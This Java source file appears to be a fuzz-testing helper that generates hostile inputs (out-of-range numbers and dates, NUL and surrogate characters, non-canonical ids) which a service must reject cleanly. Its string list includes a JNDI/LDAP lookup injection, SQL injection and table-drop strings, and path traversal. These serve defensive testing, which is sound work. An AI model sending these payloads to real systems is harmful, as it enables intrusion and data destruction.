package dev.normalizer.fuzz;

import java.math.BigDecimal;
import java.math.BigDecimal;
import java.util.List;
import java.util.Set;
import java.util.Set;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * Values that hostile clients send and that the service must refuse with a 400 (or accept), never fail on. Each is
 * {@link Tagged} with what makes it hostile, so that a failure names its class.
 */
final class HostileValues {

    /** A value (JSON text, a parameter or header string) with what makes it hostile; {@code tag} null if nothing. */
    record Tagged(String value, String tag) {
    }

    private HostileValues() {
    }

    /** JSON number tokens beyond what Java's and PostgreSQL's types hold. */
    static final List<String> NUMBER_TOKENS = List.of("1e309", "-1e309", "9223372036854775808",
            "-9223372036854775809", "2147483648", "-2147483649", "123456789012345678901234567890", "1.5", "-0",
            "1E2", "0.000000000000000000000000000001", "4.9e-325");

    static final List<String> DATES = List.of("-4714-01-01", "-4713-11-24", "0000-01-01", "0000-00-00", "2024-02-30",
            "1990-4-1", "10000-01-01", "+10000-01-01", "294277-01-01", "5874898-01-01", "1990-01-01T00:00",
            "19900101", "1990-13-01", "infinity", "epoch");

    static final List<String> DATE_TIMES = List.of("-4714-01-01T00:00:00", "-290309-01-01T00:00:00",
            "294277-01-01T00:00:00", "+999999999-12-31T23:59:59", "2024-02-30T10:00:00", "2024-01-01T24:00:00",
            "2024-01-01T10:00:00Z", "2024-01-01T10:00:00+25:00", "2024-01-01", "2024-01-01T10:00:00.1234567891",
            "2024-01-01 10:00:00", "infinity");

    static final String BEYOND = "beyond its type";
    static final String OUTSIDE = "outside PostgreSQL's range";
    /** Dates and times that Java parses and PostgreSQL cannot store (4713 BC to 5874897 AD, timestamps to 294276). */
    static final Set<String> OUTSIDE_POSTGRESQL = Set.of("-4714-01-01", "-4713-11-24", "5874898-01-01",
            "-4714-01-01T00:00:00", "-290309-01-01T00:00:00", "294277-01-01T00:00:00", "+999999999-12-31T23:59:59");

    /** Whether a JSON number token is beyond what a field of this type holds (a double, a long, an int, a short). */
    static boolean beyond(String token, String type, String format) {
        BigDecimal value = new BigDecimal(token);
        if ("number".equals(type)) {
            return Double.isInfinite(value.doubleValue());
        }
        if (!"integer".equals(type)) {
            return false;
        }
        if (value.stripTrailingZeros().scale() > 0) {
            return true;
        }
        long limit = "int16".equals(format) ? Short.MAX_VALUE : "int32".equals(format) ? Integer.MAX_VALUE
                : Long.MAX_VALUE;
        return value.abs().compareTo(BigDecimal.valueOf(limit)) > 0;
    }

    /**
     * Strings that break encodings, databases or parsers: NUL, lone surrogates, control and format characters, and
     * long ones up to {@code longest} characters.
     */
    static Arbitrary<Tagged> strings(int longest) {
        return Arbitraries.oneOf(
                Arbitraries.of("\u0000", "a\u0000b", "Ada\u0000").map(s -> new Tagged(s, "NUL character")),
                Arbitraries.of("\ud800", "x\udc00", "\udbff\udbff").map(s -> new Tagged(s, "lone surrogate")),
                Arbitraries.integers().between(256, longest).map(n -> new Tagged("x".repeat(n), "long string")),
                Arbitraries.of("é".repeat(40), "é".repeat(73), "😀".repeat(19), "😀".repeat(37), "a".repeat(73),
                        "€".repeat(25)).map(s -> new Tagged(s, "multi-byte characters over a byte limit")),
                Arbitraries.of("", " ", "\t", "\r\n", "\u202eevil", "\ufeffbom", "\u200b", "a\u0301\u0301\u0301",
                        "\u0007\u001b[31m", "\\", "\"", "%00", "%", "..%2f..%2f", "${jndi:ldap://x.invalid/a}",
                        "' OR '1'='1", "Robert'); DROP TABLE customers;--", "null", "NaN", "\uffff", "\ufffe",
                        "𝟚", "２", "٢").map(s -> new Tagged(s, "odd string")));
    }

    /** Non-canonical spellings of a known id: each must be a 400, not the record. */
    static Arbitrary<Tagged> nonCanonical(String id) {
        return Arbitraries.of("+" + id, "0" + id, " " + id, id + " ", id + ";x=1", id + ".0", id + "e0", "-" + id,
                        "0x" + id, fullWidth(id), arabicIndic(id), id + "%00", id + "%20", id + "/", id.toUpperCase())
                .filter(spelling -> !spelling.equals(id)) // a number's upper case is the number itself
                .map(s -> new Tagged(s, "non-canonical id"));
    }

    static String fullWidth(String digits) {
        return shift(digits, '０');
    }

    static String arabicIndic(String digits) {
        return shift(digits, '٠');
    }

    private static String shift(String digits, char zero) {
        StringBuilder out = new StringBuilder();
        digits.chars().forEach(c -> out.append(Character.isDigit(c) ? (char) (zero + c - '0') : (char) c));
        return out.toString();
    }
}
